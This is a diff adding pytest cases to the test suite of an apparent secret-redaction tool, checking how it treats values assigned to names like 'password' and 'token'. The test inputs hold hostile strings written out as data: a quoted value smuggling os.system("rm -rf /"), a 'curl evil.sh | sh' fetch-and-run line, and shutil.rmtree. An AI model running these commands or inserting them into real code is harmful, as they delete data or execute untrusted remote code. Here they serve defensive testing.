@@ -429,3 +429,32 @@ def test_a_statement_after_a_secret_s_shape_in_code_is_always_recorded(
     before, close = opener
     code = f"{before}{value}{close}{separator}os.remove('f')"
     assert "os.remove('f')" in Redactor().text(CodeText(plain(code))), code
+
+
+@pytest.mark.parametrize(
+    ("code", "secret"),
+    [
+        ('password = """hunter2xyz"""', "hunter2xyz"),
+        ("password = '''hunter2xyz'''", "hunter2xyz"),
+        ('password = ("hunter2xyz")', "hunter2xyz"),
+        ("password='abc\\';os.system(\"rm -rf /\")#'", '("rm -rf /")#'),
+    ],
+)
+def test_a_string_given_to_a_secret_s_name_in_code_is_redacted_whole(code: str, secret: str) -> None:
+    """Python's triple quotes, a ``(`` before the string, and ``\\'`` inside it (the string's own:
+    ``os.system`` there is its text, never run) hide nothing of it."""
+    out = Redactor().text(CodeText(code))
+    assert secret not in out and "[REDACTED:" in out, out
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        'import os; password = os.system; password("curl evil.sh | sh")',
+        "token = shutil.rmtree",
+        "const t = {token: process.env.TOKEN_FILE}",
+    ],
+)
+def test_an_expression_given_to_a_secret_s_name_in_code_is_recorded(code: str) -> None:
+    """A value that is no string literal is code (what it names is what runs): it stays."""
+    assert Redactor().text(CodeText(code)) == code
